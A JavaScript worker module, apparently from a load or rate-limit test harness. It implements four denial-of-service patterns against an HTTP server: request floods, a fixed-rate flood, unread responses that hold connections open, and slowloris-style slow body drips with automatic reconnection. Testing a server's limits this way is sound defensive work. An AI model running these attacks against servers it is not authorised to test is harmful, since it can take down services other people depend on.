// The attacks of one account. Each runs until it receives the message to stop. A request is { method, path, headers, body }.
import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

const counts = {};
const count = (status) => (counts[status] = (counts[status] ?? 0) + 1);

const ATTACKS = {
  /** A fixed number of requests in flight. Each account uses its own connections. */
  repeat: ({ url, requests, inFlight }) => {
    const agent = new Agent({ keepAlive: true, maxSockets: inFlight });
    let next = 0;
    for (let nth = 0; nth < inFlight; nth++) void repeatEndlessly();
    async function repeatEndlessly() {
      for (;;) {
        const status = await send(url, requests[next++ % requests.length], agent);
        count(status);
        // Rejected requests must not be repeated faster than an attacker below the limits would send them.
        if (status !== 200 && status !== 201) await sleep(50);
      }
    }
  },
  /** A fixed rate of requests, regardless of the responses. */
  steady: ({ url, requests, perSecond }) => {
    const agent = new Agent({ keepAlive: true });
    let next = 0;
    setInterval(() => {
      void send(url, requests[next++ % requests.length], agent).then(count);
    }, 1_000 / perSecond);
  },
  /** Requests whose responses are never read. */
  unread: ({ url, requests, inFlight }) => {
    for (let nth = 0; nth < inFlight; nth++) open(url, requests[nth % requests.length]).pause();
  },
  /** Requests that send a piece of their body at long intervals. Closed connections are opened again. */
  drip: ({ url, requests, piece, everyMs }) => {
    for (const each of requests) begin(each);
    function begin(each) {
      const socket = open(url, each);
      const timer = setInterval(() => socket.write(piece), everyMs);
      socket.write(piece);
      socket.setEncoding('latin1').on('data', (text) => count(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 'part'));
      socket.once('close', () => {
        clearInterval(timer);
        setTimeout(begin, 1_000, each);
      });
    }
  },
};

process.once('message', (attack) => {
  process.on('message', () => process.send(counts, () => process.exit()));
  ATTACKS[attack.kind](attack);
});

function send(url, { method, path, headers, body }, agent) {
  return new Promise((resolve) => {
    const length = body === undefined ? {} : { 'content-length': Buffer.byteLength(body) };
    const sent = request(url + path, { method, headers: { ...headers, ...length }, agent }, (response) => {
      response
        .resume()
        .once('end', () => resolve(response.statusCode))
        .once('error', () => resolve('cut off'));
    });
    sent.once('error', ({ code }) => resolve(code)).end(body);
  });
}

/** Sends the head of a request over its own connection. */
function open(url, { method, path, headers }) {
  const { hostname, port, host } = new URL(url);
  const socket = connect(Number(port), hostname);
  const lines = Object.entries({ host, ...headers }).map(([name, value]) => `${name}: ${value}`);
  socket.on('error', ({ code }) => count(code));
  socket.write([`${method} ${path} HTTP/1.1`, ...lines, '', ''].join('\r\n'));
  return socket;
}
